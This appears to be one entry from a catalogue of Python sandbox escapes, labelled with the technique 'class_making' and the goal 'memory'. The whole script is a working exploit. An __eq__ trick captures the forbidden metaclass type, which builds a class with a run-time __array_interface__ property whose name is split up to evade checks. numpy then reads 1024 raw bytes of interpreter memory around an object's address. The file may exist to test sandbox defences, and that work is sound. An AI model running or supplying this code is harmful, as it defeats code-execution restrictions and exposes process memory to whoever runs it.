# class: class_making
# technique: type(x) is allowed only as a comparison operand; a small class's __eq__ receives that operand (Grab() == type(int)) and keeps the metaclass `type`, whose three-argument call builds a class with a run-time __array_interface__ property
# goal: memory
import numpy as np
import pandas as pd

grabbed = []


class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


Grab() == type(int)
make = grabbed[0]
key = "_" * 2 + "array_interface" + "_" * 2


def interface(self):
    return {"data": (self.address, False), "shape": (self.size,), "typestr": "|u1", "version": 3}


RawView = make("RawView", (), {key: property(interface)})
view = RawView()
anchor = (1.5, 2.5)
view.address = id(anchor) - 256
view.size = 1024
raw = np.asarray(view).copy()
df = pd.DataFrame({"offset": np.arange(1024) - 256, "byte": raw})
